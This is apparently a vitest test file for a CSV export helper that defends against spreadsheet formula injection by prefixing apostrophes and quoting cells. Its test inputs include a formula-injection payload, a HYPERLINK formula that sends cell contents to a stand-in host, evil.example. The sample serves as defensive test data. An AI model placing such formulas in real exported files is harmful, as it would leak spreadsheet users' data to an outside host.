import { describe, expect, it } from 'vitest'
import { csvCell, neutralizeFormula, recoverFormula } from './csv-cell.js'

describe('csvCell', () => {
  it("prefixes `'` to a cell a spreadsheet would run as a formula (OWASP's first characters)", () => {
    for (const text of ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\tx', '\rx', '=', '-', '+1e5', '-1.5.2', '- 1', '+1 555 0100']) expect(neutralizeFormula(text)).toBe(`'${text}`)
  })

  it('leaves plain numbers, signed or not, and every other text as they are', () => {
    for (const text of ['-12.50', '+1.5', '-0', '15551234567', '+15551234567', '12.50', '', 'Ann', "O'Neil", "'quoted", ' =spaced', 'a=b', '\n=x']) expect(neutralizeFormula(text)).toBe(text)
  })

  it("adds one more `'` before apostrophes that precede a formula start, so a value is always recovered", () => {
    expect(neutralizeFormula("'=x")).toBe("''=x")
    expect(neutralizeFormula("''-12.50")).toBe("'''-12.50")
    for (const text of ['=HYPERLINK("http://evil.example/?"&A1,"click")', "'=x", "''@y", "'-12.50", '-12.50', "'plain", 'plain', '\t', "'", '']) expect(recoverFormula(neutralizeFormula(text))).toBe(text)
  })

  it('quotes after neutralizing, and writes numbers and absent values', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)
    expect(csvCell('-2,3')).toBe(`"'-2,3"`)
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
  })
})
